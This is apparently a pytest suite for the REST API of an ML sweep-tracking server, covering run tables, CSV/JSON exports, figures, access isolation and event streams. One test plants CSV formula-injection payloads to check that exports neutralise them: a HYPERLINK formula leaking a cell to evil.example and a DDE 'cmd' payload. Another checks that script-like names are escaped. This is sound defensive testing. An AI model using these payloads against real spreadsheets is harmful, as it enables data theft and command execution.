"""What REST tells of projects, sweeps, runs and histories."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import math

import pytest
import sqlalchemy as sa
from fastapi import Depends, FastAPI
from fastapi.requests import Request  # noqa: TC002 (FastAPI reads the annotation)
from fastapi.testclient import TestClient

from luthier.core import events as ev
from luthier.core.terms import Outcome, Status, TrialId
from luthier.plots.catalogue import FIGURES
from luthier.server import tables
from luthier.server.auth.caller import Caller, Role
from luthier.server.reading.export import batches_csv
from luthier.server.reading.history import curves
from luthier.server.reading.pulse import Pulse
from luthier.server.reading.stretches import Stretches
from luthier.server.routes import reading
from tests.server.seeded import EVIL, T0, long_row, text

BASE = "/api/v1"
SWEEP = "fm923t32"


@pytest.fixture
def get(client):
    def ask(path, status=200, **params):
        answer = client.get(BASE + path, params=params or None)
        assert answer.status_code == status, answer.text
        return answer.json()

    return ask


@pytest.fixture
def sweep(seeded):
    seeded.project()
    seeded.sweep()
    return seeded


def test_nothing_is_an_answer(seeded, get):
    assert get("/projects") == [] and get("/sweeps") == []
    for path in ("/projects/x", "/sweeps/x", "/sweeps/x/runs", "/runs/x", "/runs/x/curves", "/sweeps/x/stream"):
        assert "There is no" in get(path, 404)["detail"]


def test_projects_and_sweeps(sweep, get):
    sweep.project("empty", 2)
    assert [(p["name"], p["sweeps"], p["running"], p["runs"]) for p in get("/projects")] == [
        ("digits", 1, 1, 12),
        ("empty", 0, 0, 0),
    ]
    (line,) = get("/sweeps", project="digits")
    assert line["counts"] == {"finished": 8, "failed": 1, "stopped": 1, "running": 2} and line["runs"] == 12
    assert get("/sweeps", project="empty") == []
    get("/sweeps", 404, project="none")
    one = get(f"/sweeps/{SWEEP}")
    assert one["best_run"]["id"] == "fm923t32-1" and set(one["best_config"]) == {"lr", "opt", "layers"}
    assert [[run["name"] for run in agent["runs"]] for agent in one["agents"]] == [["run-10"], ["run-11"]]
    assert "log_uniform_values" in one["config"]


def test_table_is_sorted_filtered_and_cut(sweep, get):
    path = f"/sweeps/{SWEEP}/runs"
    table = get(path)
    losses = [row["summary/loss"] for row in table["rows"]]
    assert table["sort"] == "summary/loss" and losses == sorted(losses) and table["total"] == 12
    page = get(path, sort="lr", descending=True, offset=3, limit=4, columns=["lr"])
    every = sorted((row["config/lr"] for row in table["rows"]), reverse=True)
    assert [row["config/lr"] for row in page["rows"]] == every[3:7]
    assert set(page["rows"][0]) == {"id", "number", "name", "state", "config/lr"}
    some = get(path, filter=["loss < 0.5", "opt != adam"])
    assert some["rows"] and all(r["summary/loss"] < 0.5 and r["config/opt"] != "adam" for r in some["rows"])
    assert get(path, filter='opt = ["sgd", "adam"]')["total"] + get(path, filter="opt=rmsprop")["total"] == 12
    assert [row["number"] for row in get(path, filter="name ~ RUN-1", sort="number")["rows"]] == [1, 10, 11]
    assert "summary/loss" in get(path, 422, sort="los")["detail"] or "loss" in get(path, 422, sort="los")["detail"]
    assert "filter" in get(path, 422, filter="loss")["detail"]


def test_groups(sweep, get):
    found = get(f"/sweeps/{SWEEP}/runs", group="opt", limit=100)
    rows = found["rows"]
    for group in found["groups"]:
        members = [row["summary/loss"] for row in rows if row["config/opt"] == group["value"]]
        assert group["runs"] == len(members) and group["best"] == min(members)
        assert group["mean"] == pytest.approx(sum(members) / len(members))
    assert sum(group["runs"] for group in found["groups"]) == 12


def test_what_json_cannot_say(sweep, get):
    odd = {"loss": math.nan, "big": math.inf, "half": "\ud800", "nest": {"deep": (1, -math.inf)}}
    update = tables.runs.update().where(tables.runs.c.id == f"{SWEEP}-0")
    with sweep.database.begin() as connection:
        connection.execute(update.values(summary=text(odd), value=math.inf))
    summary = get(f"/runs/{SWEEP}-0")["summary"]
    assert summary == {"loss": "NaN", "big": "Infinity", "half": "\\ud800", "nest/deep": [1, "-Infinity"]}
    rows = get(f"/sweeps/{SWEEP}/runs", sort="loss", descending=True)["rows"]
    assert rows[-1]["number"] == 0  # NaN is last, whichever way


def test_deleted_runs_are_left_out(sweep, get):
    with sweep.database.begin() as connection:
        connection.execute(tables.runs.update().where(tables.runs.c.id == f"{SWEEP}-0").values(state="deleted"))
    assert get(f"/sweeps/{SWEEP}/runs")["total"] == 11
    assert get(f"/sweeps/{SWEEP}/runs", deleted=True)["total"] == 12


def test_the_table_is_read_anew_when_a_run_has_moved(sweep, get):
    before = get(f"/sweeps/{SWEEP}/runs", filter="number = 11")["rows"][0]["summary/loss"]
    values = {"summary": text({"loss": 0.125}), "rows": 5, "heartbeat_at": T0 + 999}
    with sweep.database.begin() as connection:
        connection.execute(tables.runs.update().where(tables.runs.c.id == f"{SWEEP}-11").values(**values))
    after = get(f"/sweeps/{SWEEP}/runs", filter="number = 11")["rows"][0]["summary/loss"]
    assert (before != 0.125, after) == (True, 0.125)


def test_downloads(sweep, client):
    answer = client.get(f"{BASE}/sweeps/{SWEEP}/runs.csv", params={"filter": "loss < 0.5", "columns": ["lr", "loss"]})
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert answer.headers["content-disposition"].endswith('"sweep-fm923t32-runs.csv"')
    assert list(rows[0]) == ["id", "number", "name", "state", "config/lr", "summary/loss"]
    assert rows and all(float(row["summary/loss"]) < 0.5 for row in rows)
    assert len(client.get(f"{BASE}/sweeps/{SWEEP}/runs.json").json()) == 12
    history = list(csv.DictReader(io.StringIO(client.get(f"{BASE}/runs/{SWEEP}-3/history.csv").text)))
    assert [row["training_iteration"] for row in history] == [str(k) for k in range(1, 9)]
    assert [row["_row"] for row in client.get(f"{BASE}/runs/{SWEEP}-3/history.json").json()] == list(range(8))
    assert client.get(f"{BASE}/runs/{SWEEP}-3/output.txt").text.count("epoch") == 8
    assert client.get(f"{BASE}/sweeps/{SWEEP}/config").text.startswith("program: train.py")


def test_no_cell_of_a_download_is_a_formula(sweep, client):
    formula = '=HYPERLINK("http://evil.example/"&A1)'
    with sweep.database.begin() as connection:
        here = tables.runs.c.id == f"{SWEEP}-3"
        values = {"name": "@SUM(1)", "config": text({formula: "+1+cmd|'/C calc'!A0", "lr": -0.5, "low": "-inf"})}
        connection.execute(tables.runs.update().where(here).values(**values))
        connection.execute(
            tables.history.update()
            .where(tables.history.c.run_id == f"{SWEEP}-3")
            .values(metrics=text({formula: "\t=1"}))
        )
    rows = list(csv.reader(io.StringIO(client.get(f"{BASE}/sweeps/{SWEEP}/runs.csv").text)))
    rows += list(csv.reader(io.StringIO(client.get(f"{BASE}/runs/{SWEEP}-3/history.csv").text)))
    cells = [cell for row in rows for cell in row]
    assert {"'@SUM(1)", "'+1+cmd|'/C calc'!A0", f"'{formula}", "'\t=1", "-0.5", "-inf"} <= set(cells)
    assert [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t"}] == []


def test_a_long_download_has_one_head_whatever_its_columns_are_called():
    name = "one\r\ntwo"
    batches = iter([[{name: 1}], [{name: 2}], [{name: 3}]])
    rows = list(csv.DictReader(io.StringIO("".join(batches_csv([], batches)), newline="")))
    assert [row[name] for row in rows] == ["1", "2", "3"]


def test_a_run(sweep, get):
    run = get(f"/runs/{SWEEP}-5")
    assert (run["state"], run["why"]["rung"], run["agent"]) == ("stopped", 4, "host-1")
    assert (run["previous"]["number"], run["next"]["number"]) == (4, 6)
    assert get(f"/runs/{SWEEP}-0")["previous"] is None
    output = get(f"/runs/{SWEEP}-3/output", limit=3)
    assert (output["lines"], output["first"], [line["line"] for line in output["items"]]) == (8, 5, [5, 6, 7])
    assert [line["line"] for line in get(f"/runs/{SWEEP}-3/output", first=0, limit=2)["items"]] == [0, 1]
    rows = get(f"/runs/{SWEEP}-3/history", offset=6)
    assert rows["rows"] == 8 and [row["_row"] for row in rows["items"]] == [6, 7]


def test_compare(sweep, get):
    found = get("/compare", runs=f"{SWEEP}-1,{SWEEP}-2")
    assert [run["number"] for run in found["runs"]] == [1, 2]
    by_name = {row["name"]: row for row in found["rows"]}
    assert by_name["lr"]["differs"] and not by_name["state"]["differs"]
    assert found["metrics"][0] == "loss"
    get("/compare", 404, runs="nobody")
    others = sweep.sweep("other000", runs=21, going=0)
    assert "20 at most" in get("/compare", 422, runs=",".join(others))["detail"]


def test_long_history_keeps_peaks_and_holes(seeded, get):
    seeded.project()
    seeded.long(rows=20_000)
    (series,) = get("/runs/long/curves", metric="loss", points=100)["series"]
    assert series["downsampled"] and not series["sampled"] and len(series["x"]) <= 101
    assert max(y for y in series["y"] if y is not None) == 99.0
    assert series["x"][0] == 0 and series["x"][-1] == 19_999
    assert series["x"] == sorted(series["x"])
    (nested,) = get("/runs/long/curves", metric="eval/loss", points=100, x="training_iteration")["series"]
    assert (min(nested["y"]), max(nested["y"])) == (0.0, 9.0) and nested["x"][-1] == 20_000
    (odd,) = get("/runs/long/curves", metric='a"b', points=100)["series"]
    assert odd["sampled"] and odd["y"][-1] == 19_999.0


def test_short_history_is_exact(sweep, get):
    found = get(f"/runs/{SWEEP}-3/curves", x="time")
    assert [series["metric"] for series in found["series"]] == ["loss", "accuracy", "training_iteration"]
    assert found["series"][0]["x"] == [0, 1, 2, 3, 4, 5, 6, 7] and not found["series"][0]["downsampled"]


def test_a_history_that_grows_is_not_read_again(seeded):
    seeded.project()
    seeded.long(rows=4000)
    stretches, asked = Stretches(), []
    with seeded.database.connect() as connection:
        listen = lambda *event: asked.append((event[2], event[3]))
        sa.event.listen(seeded.database, "before_cursor_execute", listen)
        first = curves(connection, stretches, "long", ["loss"], points=100).series[0]
        before = len(asked_from(asked))
        again = curves(connection, stretches, "long", ["loss"], points=100).series[0]
        assert first == again and before and len(asked_from(asked)) == before
    new = (
        {"run_id": "long", "attempt": 1, "row": k, "at": T0, "metrics": text(long_row(k))} for k in range(4000, 4090)
    )
    seeded.add(tables.history, *new)
    with seeded.database.connect() as connection:
        grown = curves(connection, stretches, "long", ["loss"], points=100).series[0]
        assert curves(connection, Stretches(), "long", ["loss"], points=100).series[0] == grown
    assert grown.x[-1] == 4089 and 3840 in asked_from(asked)[before:]


def asked_from(asked):
    """Return the parameters of all questions that look into the rows."""
    looks = (values for sql, values in asked if "json_extract" in sql or "json_typeof" in sql)
    every = (list(values.values()) if isinstance(values, dict) else values for values in looks)
    return [value for values in every for value in values if isinstance(value, int)]


def test_figures(sweep, get, monkeypatch):
    monkeypatch.setattr("luthier.plots.forest.TREES", 4)
    for name in FIGURES:
        found = get(f"/sweeps/{SWEEP}/figures/{name}")
        assert found["meta"]["title"] and "template" not in found["layout"]
        assert ("blank" in found["meta"]) == (name in {"pareto_front", "lineage"})
    axes = get(f"/sweeps/{SWEEP}/figures/parallel_coordinate")["meta"]["axes"]
    assert {axis["column"] for axis in axes} == {"summary/loss", "config/lr", "config/opt", "config/layers"}


def test_axes_are_logarithmic_as_the_sweeps_space(tmp_path):
    from luthier.server.app import create_app

    config = (
        "method: random\nmetric: {name: loss}\nrun_cap: 3\nparameters:\n"
        "  lr: {distribution: log_uniform_values, min: 0.05, max: 0.09}\n"
        "  net: {parameters: {width: {distribution: q_log_uniform_values, min: 20, max: 90, q: 1}}}\n"
        "  momentum: {min: 0.5, max: 0.9}\n"
    )
    app = create_app(f"sqlite:///{tmp_path}/scales.db", files=tmp_path / "files")
    with TestClient(app, base_url="http://127.0.0.1") as there:
        sweep = there.post(f"{BASE}/sweeps", json={"config": config}).json()["sweep"]
        wish = {"name": "w", "resources": {"slot": 3}}
        agent = there.post(f"{BASE}/sweeps/{sweep}/agents", json=wish).json()["agent"]
        for order in there.post(f"{BASE}/agents/{agent}/exchange", json={}).json()["orders"]:
            run = {"run": order["run"], "attempt": 1}
            rows = {"is": "rows", **run, "first": 0, "rows": [{"loss": order["params"]["lr"]}]}
            told = {"said": [rows, {"is": "exited", **run, "outcome": "finished"}]}
            assert there.post(f"{BASE}/agents/{agent}/exchange", json=told).status_code == 200
        axes = there.get(f"{BASE}/sweeps/{sweep}/figures/parallel_coordinate").json()["meta"]["axes"]
    assert {axis["column"]: axis["kind"] for axis in axes} == {
        "summary/loss": "linear", "config/lr": "log", "config/net/width": "log", "config/momentum": "linear",
    }  # fmt: skip


def test_figures_follow_the_log(sweep, get):
    path = f"/sweeps/{SWEEP}/figures/edf"
    before = get(path)
    done = TrialId(f"{SWEEP}-11")
    at = T0 + 500
    report = ev.Reported(done, 1, 4, {"loss": 0.0001, "training_iteration": 5})
    sweep.add(
        tables.events,
        sweep.append(SWEEP, at, report, ev.Exited(done, 1, Outcome.FINISHED), ev.Ended(done, Status.DONE)),
    )
    assert get(path) == before  # the sweep's row says that nothing has changed
    with sweep.database.begin() as connection:
        connection.execute(tables.sweeps.update().values(length=sweep.lengths[SWEEP], updated_at=at, state="FINISHED"))
    assert get(path) != before


def test_metrics_that_no_policy_hears_have_figures_too(sweep, get):
    found = get(f"/sweeps/{SWEEP}/figures/learning_curves", metric="accuracy")
    assert found["data"] and "blank" not in found["meta"]
    assert "one of" in get(f"/sweeps/{SWEEP}/figures/edf", 422, metric="nope")["detail"]
    get(f"/sweeps/{SWEEP}/figures/nope", 404)


def test_a_key_of_one_project_sees_nothing_else(seeded):
    def check(request: Request) -> None:
        request.state.caller = Caller("ann", Role.READ, project_id=1)

    seeded.project()
    seeded.sweep(runs=2, going=0)
    seeded.project("other", 2)
    seeded.sweep("theirs00", runs=2, going=0, project=2)
    app = FastAPI()
    app.include_router(reading.router(seeded.database, dependencies=[Depends(check)]))
    with TestClient(app) as client:
        assert [project["name"] for project in client.get(f"{BASE}/projects").json()] == ["digits"]
        assert [sweep["id"] for sweep in client.get(f"{BASE}/sweeps").json()] == [SWEEP]
        for path in ("/projects/other", "/sweeps?project=other", "/sweeps/theirs00", "/sweeps/theirs00/runs.csv",
                     "/sweeps/theirs00/figures/edf", "/sweeps/theirs00/stream", "/runs/theirs00-0",
                     "/runs/theirs00-0/output",
                     f"/compare?runs={SWEEP}-0,theirs00-0"):  # fmt: skip
            assert client.get(BASE + path).status_code == 404, path
        assert client.get(f"{BASE}/sweeps/{SWEEP}").status_code == 200


def test_hostile_words_are_data(sweep, get):
    with sweep.database.begin() as connection:
        values = {"name": EVIL, "config": text({EVIL: EVIL}), "summary": text({EVIL: 1.0, "loss": 0.5})}
        connection.execute(tables.runs.update().where(tables.runs.c.id == f"{SWEEP}-0").values(**values))
    assert get(f"/runs/{SWEEP}-0")["name"] == EVIL
    drawn = json.dumps(get(f"/sweeps/{SWEEP}/figures/learning_curves"))
    assert "<script" not in drawn and "<img" not in drawn
    for path in ("/runs/a%00b", f"/sweeps/{SWEEP}/runs?filter=%00", f"/sweeps/{SWEEP}/runs?sort=%00"):
        assert "detail" in get(path, 404 if "runs/a" in path else 422)


def test_stream_tells_what_has_changed(sweep):
    async def listen():
        heard = []
        stream = Pulse(sweep.database, every_s=0.01, beat_s=0.05).sweep(SWEEP)
        async for part in stream:
            heard.append(part.decode())
            if "event: now" in heard[-1]:
                with sweep.database.begin() as connection:
                    connection.execute(tables.sweeps.update().values(length=999))
                    connection.execute(tables.runs.update().where(tables.runs.c.number == 11).values(rows=77))
            elif "event: change" in heard[-1]:
                break
        async for part in stream:
            heard.append(part.decode())
            if heard[-1].startswith(":"):
                with sweep.database.begin() as connection:
                    connection.execute(tables.sweeps.delete())
        return heard

    heard = asyncio.run(listen())
    now, change = (json.loads(h.partition("data: ")[2]) for h in heard if "event: now" in h or "event: change" in h)
    assert now["runs"] == [] and now["counts"]["running"] == 2
    assert change["length"] == 999 and [(run["number"], run["rows"]) for run in change["runs"]] == [(11, 77)]
    assert any(h.startswith(": ") for h in heard) and "event: gone" in heard[-1]


def test_a_key_of_one_project_hears_of_that_alone(sweep):
    sweep.project("other", 2)
    sweep.sweep("theirs00", runs=1, going=1, project=2)

    async def listen():
        pulse, heard = Pulse(sweep.database, every_s=0.01, beat_s=0.05), []
        own, every = pulse.listing({1}), pulse.listing()
        for stream in (own, every):
            await anext(stream)
            heard.append((await anext(stream)).decode())
        with sweep.database.begin() as connection:
            connection.execute(tables.sweeps.update().where(tables.sweeps.c.id == "theirs00").values(length=99))
        heard += [(await anext(own)).decode(), (await anext(every)).decode()]
        for stream in (own, every):
            await stream.aclose()
        return heard

    mine, all_of_them, silence, change = asyncio.run(listen())
    assert '{"RUNNING":1}' in mine and '{"RUNNING":2}' in all_of_them
    assert silence.startswith(": ") and "event: change" in change


def test_listeners_share_a_watch_that_ends_with_them(sweep):
    async def listen():
        pulse = Pulse(sweep.database, every_s=0.01)
        streams = [pulse.run(f"{SWEEP}-11") for _ in range(3)]
        for stream in streams:
            await anext(stream)
            assert "event: now" in (await anext(stream)).decode()
        (channel,) = pulse._channels.values()
        assert channel.task is not None
        assert len(channel.queues) == 3
        for stream in streams:
            await stream.aclose()
        await asyncio.sleep(0)
        assert not pulse._channels
        await asyncio.gather(channel.task, return_exceptions=True)
        return channel.task.cancelled()

    assert asyncio.run(listen())
